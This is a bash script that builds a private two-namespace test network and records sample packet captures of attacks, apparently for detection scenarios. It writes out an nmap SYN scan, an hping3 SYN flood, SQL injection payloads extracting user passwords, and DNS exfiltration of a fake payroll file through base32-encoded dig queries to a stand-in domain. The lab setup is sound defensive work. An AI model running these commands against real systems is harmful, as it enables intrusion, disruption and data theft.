#!/usr/bin/env bash
# Make the sample captures in scenarios/pcaps/ from real tools, on a private test network.
#
#   sudo scripts/make_pcaps.sh [OUT_DIR]        (default: scenarios/pcaps)
#
# Two network namespaces of its own on one veth pair, with documentation
# addresses (RFC 5737): attacker 198.51.100.10 and target 198.51.100.20. Nothing
# else is ever addressed. The target runs python's http.server (port 80) and a
# tiny DNS responder (port 53, NXDOMAIN to everything); tcpdump on the target
# side writes one capture per attack:
#   portscan.pcap   nmap SYN scan of a few ports
#   synflood.pcap   hping3 SYN burst, 200 packets
#   sqli-http.pcap  curl requests with SQL injection in the query string
#   dns-exfil.pcap  dig queries whose labels carry base32 data
# Checksums are fixed afterwards with tcprewrite --fixcsum when it is there
# (a veth capture otherwise shows the sender's offloaded, unfinished ones).
# Needs root, iproute2, tcpdump, nmap, hping3, curl, dig, python3.
set -euo pipefail

OUT=${1:-"$(cd "$(dirname "$0")/.." && pwd)/scenarios/pcaps"}
PY=${PYTHON:-python3}
P="mkpcap$$"
A="$P-a"
T="$P-t"
ATT=198.51.100.10
TGT=198.51.100.20
WORK=$(mktemp -d)
PIDS=()

cleanup() {
    local rc=$?
    for pid in "${PIDS[@]:-}"; do
        [ -n "$pid" ] && kill "$pid" 2>/dev/null || true
    done
    wait 2>/dev/null || true
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$T" 2>/dev/null || true
    [ -n "${KEEP_WORK:-}" ] && echo "work dir kept: $WORK" >&2 || rm -rf "$WORK"
    exit $rc
}
trap cleanup EXIT INT TERM

[ "$(id -u)" = 0 ] || { echo "make_pcaps.sh: needs root (network namespaces)" >&2; exit 2; }
for tool in ip tcpdump nmap hping3 curl dig "$PY"; do
    command -v "$tool" >/dev/null || { echo "make_pcaps.sh: $tool is missing" >&2; exit 3; }
done
mkdir -p "$OUT"

ip netns add "$A"
ip netns add "$T"
ip link add eth0 netns "$A" type veth peer name eth0 netns "$T"
ip -n "$A" addr add "$ATT/24" dev eth0
ip -n "$T" addr add "$TGT/24" dev eth0
for ns in "$A" "$T"; do
    ip -n "$ns" link set lo up
    ip -n "$ns" link set eth0 up
done

# --- services on the target --------------------------------------------------------
mkdir -p "$WORK/www"
printf '<html><body><form action="/lookup">National ID <input name="id"></form></body></html>\n' >"$WORK/www/lookup"
printf '<html><body>District portal</body></html>\n' >"$WORK/www/index.html"
ip netns exec "$T" "$PY" -m http.server 80 --bind "$TGT" --directory "$WORK/www" >"$WORK/http.log" 2>&1 &
PIDS+=($!)
cat >"$WORK/dns.py" <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("198.51.100.20", 53))
while True:
    q, peer = s.recvfrom(2048)
    if len(q) < 12:
        continue
    i = 12
    while i < len(q) and q[i]:
        i += 1 + q[i]
    # NXDOMAIN, question echoed, no answers
    s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12 : i + 5], peer)
EOF
ip netns exec "$T" "$PY" "$WORK/dns.py" &
PIDS+=($!)
for _ in $(seq 50); do
    ip netns exec "$A" curl -s -o /dev/null --max-time 1 "http://$TGT/" && break
    sleep 0.1
done

# --- one capture per attack -----------------------------------------------------------
capture() {  # capture NAME FILTER -- COMMAND...
    local name=$1 filter=$2
    shift 3
    local raw="$WORK/$name.raw.pcap"
    ip netns exec "$T" tcpdump -i eth0 -n -s 0 -U --immediate-mode -w "$raw" "$filter" 2>"$WORK/$name.tcpdump" &
    local tpid=$!
    for _ in $(seq 100); do
        grep -q "listening on" "$WORK/$name.tcpdump" 2>/dev/null && break
        sleep 0.05
    done
    "$@" >"$WORK/$name.out" 2>&1 || true
    sleep 0.5
    kill -INT "$tpid"
    wait "$tpid" 2>/dev/null || true
    if command -v tcprewrite >/dev/null; then
        tcprewrite --fixcsum -i "$raw" -o "$OUT/$name.pcap"
    else
        cp "$raw" "$OUT/$name.pcap"
    fi
    echo "$name.pcap: $(tcpdump -n -r "$OUT/$name.pcap" 2>/dev/null | wc -l) packets, $(stat -c %s "$OUT/$name.pcap") bytes"
}

capture portscan "ip and host $ATT" -- \
    ip netns exec "$A" nmap -n -Pn -sS --max-retries 0 -p 21,22,23,25,53,80,443,3306,8080 "$TGT"

capture synflood "ip and host $ATT" -- \
    ip netns exec "$A" hping3 -q -S -p 80 -c 200 -i u2000 "$TGT"

sqli() {
    local ua="sqlmap/1.7.2#stable (https://sqlmap.org)"
    for q in "1" "1%27" "1%27%20OR%20%271%27%3D%271" "1%27%20OR%201%3D1--%20-" \
        "1%27%20UNION%20SELECT%20username%2Cpassword%2Crole%20FROM%20users--%20-" \
        "1%27%20UNION%20SELECT%20name%2Csql%2Ctype%20FROM%20sqlite_master--%20-" \
        "1%27%20AND%20SUBSTR%28%28SELECT%20password%20FROM%20users%20LIMIT%201%29%2C1%2C1%29%3D%27a%27--%20-"; do
        ip netns exec "$A" curl -s -o /dev/null -A "$ua" --max-time 2 "http://$TGT/lookup?id=$q"
        sleep 0.05
    done
}
capture sqli-http "ip and host $ATT" -- sqli

exfil() {
    # a few lines of a made-up payroll file, in base32 chunks of 30 characters
    local data
    data=$(printf '%s\n' "file=finance/payroll-2024.csv rows=6" \
        "id,name,account,amount" "0042,Nguyen Van An,0042-17-339,18400000" \
        "0043,Tran Thi Binh,0043-22-101,21250000" "0044,Le Van Cuong,0044-09-874,16900000" \
        "0045,Pham Thi Dung,0045-31-562,19800000" "0046,Hoang Van Em,0046-12-447,17300000" \
        "0047,Vu Thi Giang,0047-28-915,22600000")
    local b32
    b32=$(printf '%s' "$data" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
    local seq=0 i=0
    while [ $i -lt ${#b32} ]; do
        ip netns exec "$A" dig @"$TGT" +tries=1 +time=1 +short "${b32:$i:30}.$seq.cdn-sync.example.test" A >/dev/null || true
        i=$((i + 30))
        seq=$((seq + 1))
        sleep 0.05
    done
}
capture dns-exfil "ip and host $ATT" -- exfil

ls -l "$OUT"
